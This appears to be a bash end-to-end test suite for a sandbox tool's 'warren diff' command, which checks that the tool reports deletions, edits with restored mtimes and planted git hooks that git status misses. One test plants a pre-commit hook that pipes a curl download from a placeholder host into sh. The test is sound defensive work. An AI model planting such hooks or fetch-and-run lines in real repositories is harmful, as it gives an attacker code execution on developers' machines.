# shellcheck shell=bash
# End-to-end: `warren diff` on a direct-mode workspace.
#
# A sandbox changes a git project made here: it deletes a tracked file,
# edits another (one edit with its mtime put back), adds a hook in
# .git/hooks and commits. `git status` and `git diff` on the host miss the
# hook; `warren diff` lists all of it, points the hook out, and counts
# git's object store on one line. It works on a stopped sandbox, shows the
# host's own edits too, and a sandbox without a direct-mode workspace gets
# a clear error.

OWNER=4242
GROUP=4343

# A git project with one commit, owned by OWNER:GROUP.
make_project() { # DIR
  local dir=$1
  rm -rf "$dir"
  mkdir -p "$dir/proj"
  git -C "$dir/proj" init -q -b main
  printf 'print("hello")\n' >"$dir/proj/app.py"
  printf 'DEBUG = False\n' >"$dir/proj/settings.py"
  printf '# demo\n' >"$dir/proj/README.md"
  git -C "$dir/proj" add -A
  git -C "$dir/proj" -c user.name=t -c user.email=t@example.invalid \
    commit -q -m initial
  chown -R "$OWNER:$GROUP" "$dir"
}

inside() { # NAME CMD...
  local name=$1
  shift
  "$WARREN" exec "$name" -- sh -c "$*"
}

# git on the host, as its owner would run it, but never running hooks.
host_git() { # DIR ARGS...
  local dir=$1
  shift
  git -C "$dir" -c safe.directory='*' -c core.hooksPath=/dev/null "$@"
}

test_diff_lists_what_git_does_not_show() {
  local d=/tmp/wr-diff-git out json
  make_project "$d"
  new_sandbox df-git shell "$d/proj"
  out=$("$WARREN" diff df-git)
  assert_contains "$out" "No changes" "diff of a fresh sandbox"

  inside df-git 'cd /workspace && rm README.md &&
    echo "print(\"edited\")" >>app.py &&
    printf "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n" \
      >.git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit'
  # An edit that keeps the size and puts the mtime back (`touch -r`).
  inside df-git 'cd /workspace && cp -p settings.py /tmp/ref &&
    printf "DEBUG = True!\n" >settings.py && touch -r /tmp/ref settings.py'
  assert_eq "$(stat -c %Y "$d/proj/settings.py")" \
    "$(inside df-git stat -c %Y /tmp/ref)" "settings.py mtime put back"

  # git on the host: the deletion and the edit, never the hook.
  out=$(host_git "$d/proj" status --porcelain --ignored)
  assert_contains "$out" " D README.md" "git status"
  assert_contains "$out" " M app.py" "git status"
  assert_not_contains "$out" "hooks" "git status"
  out=$(host_git "$d/proj" diff)
  assert_not_contains "$out" "pre-commit" "git diff"

  # warren diff: all three, the hook pointed out.
  out=$("$WARREN" diff df-git)
  assert_contains "$out" "D README.md" "warren diff"
  assert_contains "$out" "M app.py" "warren diff"
  assert_contains "$out" "M settings.py" "warren diff (mtime put back)"
  assert_contains "$out" "A .git/hooks/pre-commit   (git hook" "warren diff"
  json=$("$WARREN" diff --json df-git)
  assert_eq deleted "$(json_get "$json" \
    '.changes[] | select(.path == "README.md") | .change')" "README.md"
  assert_eq modified "$(json_get "$json" \
    '.changes[] | select(.path == "app.py") | .change')" "app.py"
  assert_eq "added file" "$(json_get "$json" \
    '.changes[] | select(.path == ".git/hooks/pre-commit") |
     "\(.change) \(.type)"')" "the hook"
  assert_eq false "$(json_get "$json" .truncated)" "truncated"
  # In tree order, and nothing unchanged is listed.
  assert_eq "$(json_get "$json" '.changes | map(.path) | join(",")')" \
    "$(json_get "$json" '.changes | map(.path) | sort | join(",")')" "order"
  assert_not_contains "$out" "pre-commit.sample" "warren diff"
  # A limit cuts the list and says so.
  api_call GET "/v1/sandboxes/df-git/diff?limit=1"
  assert_eq 200 "$API_STATUS" "limit=1"
  assert_eq "1 true" "$(json_get "$API_BODY" \
    '"\(.changes | length) \(.truncated)"')" "limit=1"
  api_call GET "/v1/sandboxes/df-git/diff?limit=0"
  assert_eq 400 "$API_STATUS" "limit=0"
}

test_diff_counts_git_internals_on_one_line() {
  local d=/tmp/wr-diff-commit out json objects
  make_project "$d"
  new_sandbox df-commit shell "$d/proj"
  inside df-commit 'cd /workspace && echo new >new.txt && git add new.txt &&
    git -c user.name=agent -c user.email=a@example.invalid commit -qm new'
  json=$("$WARREN" diff --json df-commit)
  objects=$(json_get "$json" \
    '[.changes[] | select(.path | startswith(".git/objects/"))] | length')
  [ "$objects" -ge 3 ] || fail "objects in the JSON: $objects"
  out=$("$WARREN" diff df-commit)
  assert_contains "$out" "* .git/objects/   (" "grouped objects"
  assert_eq 1 "$(printf '%s\n' "$out" | grep -c '\.git/objects')" \
    "lines about .git/objects"
  assert_contains "$out" "A new.txt" "warren diff"
  assert_contains "$out" "M .git/refs/heads/main" "warren diff"
}

test_diff_when_stopped_and_host_edits() {
  local d=/tmp/wr-diff-stop out
  make_project "$d"
  new_sandbox df-stop shell "$d/proj"
  inside df-stop 'echo x >/workspace/made-inside'
  "$WARREN" stop df-stop >/dev/null
  assert_eq stopped "$(sb_state df-stop)" "state"
  echo host >"$d/proj/made-on-host"
  chmod 600 "$d/proj/app.py"
  out=$("$WARREN" diff df-stop)
  assert_contains "$out" "A made-inside" "warren diff (stopped)"
  assert_contains "$out" "A made-on-host" "warren diff (host edit)"
  assert_contains "$out" "m app.py" "warren diff (chmod)"
}

test_diff_needs_a_direct_workspace() {
  local out
  new_sandbox df-none
  out=$(must_fail "$WARREN" diff df-none)
  assert_contains "$out" "\`df-none\` has no direct-mode workspace" "error"
  api_call GET /v1/sandboxes/df-none/diff
  assert_eq 409 "$API_STATUS" "status"
  assert_api_error "$API_BODY" conflict "no workspace"
  api_call GET /v1/sandboxes/df-nosuch/diff
  assert_eq 404 "$API_STATUS" "unknown sandbox"
}

test_diff_clone_mode_says_fetch() {
  local d=/tmp/wr-diff-clone out
  make_project "$d"
  new_sandbox df-clone --clone shell "$d/proj"
  out=$(must_fail "$WARREN" diff df-clone)
  assert_contains "$out" "clone mode's changes are commits" "error"
  assert_contains "$out" "git fetch warren-df-clone BRANCH" "error"
}
